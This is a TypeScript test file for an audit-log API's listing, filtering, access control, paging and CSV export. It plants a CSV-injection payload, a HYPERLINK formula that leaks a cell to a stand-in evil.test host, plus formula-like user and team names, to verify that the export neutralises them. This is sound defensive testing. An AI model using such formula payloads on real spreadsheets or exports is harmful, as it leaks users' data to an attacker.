import { randomUUID } from 'node:crypto';
import { afterEach, expect, it } from 'vitest';
import type { AuditEvent, ErrorBody, Page } from '@sextant/core';
import { describeEachDatabase } from '../support/harness.js';
import { TEST_NOW, testDay } from '../support/test-now.js';
import { addStory, closeSprint, createSprint, startSprint } from '../support/sprints.js';

const EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")';

/** The records of a CSV text (RFC 4180: quoted cells may hold commas, quotes, line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      cells.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      cells.push(cell);
      records.push(cells);
      cells = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || cells.length > 0) records.push([...cells, cell]);
  return records;
}

/** Every page of a listing, following the cursor. */
async function allPages(
  get: (url: string) => Promise<{ status: number; body: Page<AuditEvent> }>,
  url: string,
  limit: number,
): Promise<AuditEvent[]> {
  const items: AuditEvent[] = [];
  let cursor: string | null = null;
  do {
    const sep = url.includes('?') ? '&' : '?';
    const reply = await get(
      `${url}${sep}limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
    );
    expect(reply.status).toBe(200);
    expect(reply.body.items.length).toBeLessThanOrEqual(limit);
    items.push(...reply.body.items);
    cursor = reply.body.nextCursor;
  } while (cursor);
  return items;
}

describeEachDatabase('the audit log, readable', (env) => {
  afterEach(() => env().clock.set(TEST_NOW));

  const at = (offset: number, time = '09:00:00.000Z') =>
    env().clock.set(new Date(`${testDay(offset)}T${time}`));

  /**
   * Team A (two projects, a viewer and a member) and team B (one project), with events laid
   * over three days: A is created on day −2, its P1 token (a formula for a name) and members
   * added on day −1, its P2 token on day 0; B and its token on day 0.
   */
  async function world() {
    const { factory } = env();
    const root = await factory.user({ isAdmin: true, name: 'Root' });
    const adminA = await factory.user({ name: 'Alice Admin' });
    at(-2);
    const teamA = await factory.team(adminA);
    const p1 = await factory.project(adminA, teamA.id);
    const p2 = await factory.project(adminA, teamA.id);
    at(-1);
    const evilToken = await adminA.client.post<{ id: string }>(`/projects/${p1.id}/ci-tokens`, {
      name: EVIL,
    });
    expect(evilToken.status).toBe(201);
    const viewer = await factory.member(teamA.id, adminA, 'viewer');
    const member = await factory.member(teamA.id, adminA, 'member');
    at(0);
    const p2Token = await adminA.client.post<{ id: string }>(`/projects/${p2.id}/ci-tokens`, {
      name: 'p2 ci',
    });
    expect(p2Token.status).toBe(201);
    const adminB = await factory.user({ name: 'Bob Admin' });
    const teamB = await factory.team(adminB);
    const q = await factory.project(adminB, teamB.id);
    const qToken = await adminB.client.post<{ id: string }>(`/projects/${q.id}/ci-tokens`, {
      name: 'q ci',
    });
    expect(qToken.status).toBe(201);
    env().clock.set(TEST_NOW);
    return { root, adminA, adminB, viewer, member, teamA, teamB, p1, p2, q, evilToken, qToken };
  }

  it("lists a team's events newest first, with who, what, which object, when and from where", async () => {
    const w = await world();
    const log = await w.adminA.client.get<Page<AuditEvent>>(`/teams/${w.teamA.id}/audit?limit=200`);
    expect(log.status).toBe(200);
    const items = log.body.items;
    expect(items.map((e) => e.action).sort()).toEqual(
      [
        'team.created',
        'team.member_added',
        'team.member_added',
        'token.created',
        'token.created',
      ].sort(),
    );
    expect(items.every((e) => e.teamId === w.teamA.id)).toBe(true);
    const ids = items.map((e) => e.id);
    expect(ids).toEqual([...ids].sort().reverse());

    const evil = items.find((e) => e.targetId === w.evilToken.body.id);
    expect(evil).toMatchObject({
      action: 'token.created',
      summary: 'Created a token',
      actor: {
        kind: 'user',
        name: 'Alice Admin',
        email: w.adminA.user.email,
        tokenName: null,
      },
      actorUserId: w.adminA.user.id,
      targetType: 'token',
      targetName: EVIL,
      project: { id: w.p1.id, name: w.p1.name },
    });
    expect(evil?.at.slice(0, 10)).toBe(testDay(-1));
    expect(evil?.ip).toBeTruthy();
    const added = items.filter((e) => e.action === 'team.member_added');
    expect(added.map((e) => e.targetName).sort()).toEqual(
      [w.viewer.user.name, w.member.user.name].sort(),
    );
    expect(items.find((e) => e.action === 'team.created')?.targetName).toBe(w.teamA.name);
  });

  it('narrows by project, action, person and days, on the team log and the workspace log', async () => {
    const w = await world();
    const team = (query: string) =>
      w.adminA.client.get<Page<AuditEvent>>(`/teams/${w.teamA.id}/audit?limit=200&${query}`);
    const workspace = (query: string) =>
      w.root.client.get<Page<AuditEvent>>(`/audit?limit=200&${query}`);

    const p1 = (await team(`project=${w.p1.id}`)).body.items;
    expect(p1.map((e) => [e.action, e.targetId])).toEqual([['token.created', w.evilToken.body.id]]);
    const p2 = (await team(`project=${w.p2.id}`)).body.items;
    expect(p2.map((e) => e.targetName)).toEqual(['p2 ci']);

    const added = (await team('action=team.member_added')).body.items;
    expect(added).toHaveLength(2);
    expect(added.every((e) => e.action === 'team.member_added')).toBe(true);

    const byAlice = (await team(`person=${w.adminA.user.id}`)).body.items;
    expect(byAlice).toHaveLength(5);
    const byViewer = (await team(`person=${w.viewer.user.id}`)).body.items;
    expect(byViewer).toHaveLength(0);

    const dayMinus1 = (await team(`from=${testDay(-1)}&to=${testDay(-1)}`)).body.items;
    expect(dayMinus1.map((e) => e.action).sort()).toEqual(
      ['team.member_added', 'team.member_added', 'token.created'].sort(),
    );
    expect(dayMinus1.every((e) => e.at.startsWith(testDay(-1)))).toBe(true);
    const fromDay0 = (await team(`from=${testDay(0)}`)).body.items;
    expect(fromDay0.map((e) => e.targetName)).toEqual(['p2 ci']);
    const toDayMinus2 = (await team(`to=${testDay(-2)}`)).body.items;
    expect(toDayMinus2.map((e) => e.action)).toEqual(['team.created']);

    const combined = (
      await team(`action=token.created&person=${w.adminA.user.id}&from=${testDay(-1)}`)
    ).body.items;
    expect(combined.map((e) => e.targetName).sort()).toEqual([EVIL, 'p2 ci'].sort());

    // The workspace log holds every team's events, filtered the same way.
    const q = (await workspace(`project=${w.q.id}`)).body.items;
    expect(q.map((e) => [e.action, e.teamId, e.actorUserId])).toEqual([
      ['token.created', w.teamB.id, w.adminB.user.id],
    ]);
    const byBob = (await workspace(`person=${w.adminB.user.id}`)).body.items;
    expect(byBob.map((e) => e.action).sort()).toEqual(
      ['auth.login', 'team.created', 'token.created'].sort(),
    );
    const created = (await workspace(`action=user.created&from=${testDay(0)}&to=${testDay(0)}`))
      .body.items;
    const bob = created.find((e) => e.targetId === w.adminB.user.id);
    expect(bob?.actor).toEqual({ kind: 'system', name: 'system', email: null, tokenName: null });
  });

  it('gives sprint closes (audited without a team) to the project and its team', async () => {
    const w = await world();
    const sprint = await createSprint(w.adminA.client, w.p1.id, testDay(-3), testDay(10));
    await addStory(w.adminA.client, sprint.id, { assigneeId: null, status: 'done' });
    await startSprint(w.adminA.client, sprint.id);
    await closeSprint(w.adminA.client, sprint.id);
    const log = await w.adminA.client.get<Page<AuditEvent>>(
      `/teams/${w.teamA.id}/audit?project=${w.p1.id}&action=sprint.closed`,
    );
    expect(log.body.items).toHaveLength(1);
    expect(log.body.items[0]).toMatchObject({
      teamId: w.teamA.id,
      targetType: 'sprint',
      targetId: sprint.id,
      targetName: sprint.name,
      summary: 'Closed a sprint',
      project: { id: w.p1.id, name: w.p1.name },
    });
  });

  it('answers a bad day, or to before from, with 400 naming the field', async () => {
    const w = await world();
    const cases: [string, string][] = [
      ['from=2026-13-01', 'from'],
      ['to=yesterday', 'to'],
      ['from=2026-02-30', 'from'],
      [`from=${testDay(0)}&to=${testDay(-1)}`, 'to'],
    ];
    for (const base of [
      `/teams/${w.teamA.id}/audit`,
      `/teams/${w.teamA.id}/audit.csv`,
      '/audit',
      '/audit.csv',
    ]) {
      const client = base.startsWith('/audit') ? w.root.client : w.adminA.client;
      for (const [query, field] of cases) {
        const reply = await client.get<ErrorBody>(`${base}?${query}`);
        expect(reply.status, `${base}?${query}`).toBe(400);
        expect(reply.body.error.code).toBe('invalid_request');
        const fields = (reply.body.error.details.fields as { field: string }[]).map((f) => f.field);
        expect(fields, `${base}?${query}`).toContain(field);
      }
    }
  });

  it("keeps a team admin to their team: another team's project or log answers 404 like a missing one", async () => {
    const w = await world();
    for (const suffix of ['audit', 'audit.csv']) {
      const foreign = await w.adminA.client.get(`/teams/${w.teamA.id}/${suffix}?project=${w.q.id}`);
      const missing = await w.adminA.client.get(
        `/teams/${w.teamA.id}/${suffix}?project=${randomUUID()}`,
      );
      expect(foreign.status).toBe(404);
      expect(foreign.raw.body).toBe(missing.raw.body);

      const otherTeam = await w.adminA.client.get(`/teams/${w.teamB.id}/${suffix}`);
      const noTeam = await w.adminA.client.get(`/teams/${randomUUID()}/${suffix}`);
      expect(otherTeam.status).toBe(404);
      expect(otherTeam.raw.body).toBe(noTeam.raw.body);
    }
    // A person filter naming someone of another team finds nothing in this team's log.
    const bob = await w.adminA.client.get<Page<AuditEvent>>(
      `/teams/${w.teamA.id}/audit?person=${w.adminB.user.id}`,
    );
    expect(bob.body.items).toEqual([]);
    // The workspace log answers an unknown project with 404 too.
    expect((await w.root.client.get(`/audit?project=${randomUUID()}`)).status).toBe(404);
  });

  it('refuses members, viewers and people who are not workspace admins', async () => {
    const w = await world();
    for (const suffix of ['audit', 'audit.csv']) {
      for (const who of [w.viewer, w.member]) {
        const reply = await who.client.get<ErrorBody>(`/teams/${w.teamA.id}/${suffix}`);
        expect(reply.status).toBe(403);
      }
      expect((await w.adminA.client.get(`/${suffix}`)).status).toBe(403);
      expect((await env().factory.client().get(`/${suffix}`)).status).toBe(401);
      expect((await env().factory.client().get(`/teams/${w.teamA.id}/${suffix}`)).status).toBe(401);
    }
  });

  it('pages with the cursor, each event once, newest first', async () => {
    const w = await world();
    const whole = await w.adminA.client.get<Page<AuditEvent>>(
      `/teams/${w.teamA.id}/audit?limit=200`,
    );
    const paged = await allPages(
      (url) => w.adminA.client.get(url),
      `/teams/${w.teamA.id}/audit`,
      2,
    );
    expect(paged.map((e) => e.id)).toEqual(whole.body.items.map((e) => e.id));
    const filtered = await allPages(
      (url) => w.adminA.client.get(url),
      `/teams/${w.teamA.id}/audit?action=team.member_added`,
      1,
    );
    expect(filtered).toHaveLength(2);
  });

  it('downloads the filtered log as CSV with every formula-like cell neutralised', async () => {
    const w = await world();
    // Objects and people whose names a spreadsheet would run, made through the normal API.
    const sneaky = await env().factory.user({ name: '@SUM(1+1)*cmd', isAdmin: true });
    const plus = await env().factory.team(sneaky, '+1+2');
    const minus = await env().factory.team(sneaky, '-2+3');

    const reply = await w.adminA.client.get<string>(
      `/teams/${w.teamA.id}/audit.csv?project=${w.p1.id}`,
    );
    expect(reply.status).toBe(200);
    expect(reply.raw.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(reply.raw.headers['content-disposition']).toBe(
      `attachment; filename="sextant-audit-${testDay(0)}.csv"`,
    );
    expect(reply.body.endsWith('\r\n')).toBe(true);
    const records = parseCsv(reply.body);
    expect(records[0]).toEqual([
      'time',
      'who',
      'email',
      'token',
      'action',
      'what',
      'object type',
      'object id',
      'object name',
      'project id',
      'project',
      'ip',
      'details',
    ]);
    expect(records).toHaveLength(2);
    const row = records[1] ?? [];
    expect(row[1]).toBe('Alice Admin');
    expect(row[4]).toBe('token.created');
    expect(row[7]).toBe(w.evilToken.body.id);
    expect(row[8]).toBe(`'${EVIL}`);
    expect(row[9]).toBe(w.p1.id);
    expect(JSON.parse(row[12] ?? '{}')).toMatchObject({ name: EVIL });
    // The raw text holds the formula only quoted and neutralised.
    expect(reply.body).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Open"")"`);

    const all = await w.root.client.get<string>(
      `/audit.csv?person=${sneaky.user.id}&action=team.created`,
    );
    expect(all.status).toBe(200);
    const rows = parseCsv(all.body).slice(1);
    expect(rows.map((r) => r[1])).toEqual(["'@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"]);
    expect(rows.map((r) => [r[7], r[8]])).toEqual([
      [minus.id, "'-2+3"],
      [plus.id, "'+1+2"],
    ]);
    for (const r of parseCsv(all.body)) {
      for (const cell of r) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('streams a CSV bigger than one batch, each event once', async () => {
    const w = await world();
    const { store } = env();
    const total = 1_203;
    for (let i = 0; i < total; i += 1) {
      await store.repos.audit.record(
        {
          action: 'test.bulk',
          actorUserId: w.adminA.user.id,
          targetType: 'project',
          targetId: w.p2.id,
          ip: '10.0.0.1',
          details: { i },
        },
        TEST_NOW.toISOString(),
      );
    }
    const reply = await w.adminA.client.get<string>(
      `/teams/${w.teamA.id}/audit.csv?action=test.bulk&project=${w.p2.id}`,
    );
    expect(reply.status).toBe(200);
    const rows = parseCsv(reply.body).slice(1);
    expect(rows).toHaveLength(total);
    const seen = rows.map((r) => (JSON.parse(r[12] ?? '{}') as { i: number }).i);
    expect(new Set(seen).size).toBe(total);
    expect(seen[0]).toBe(total - 1);
    expect(rows.every((r) => r[10] === w.p2.name)).toBe(true);
  });
});
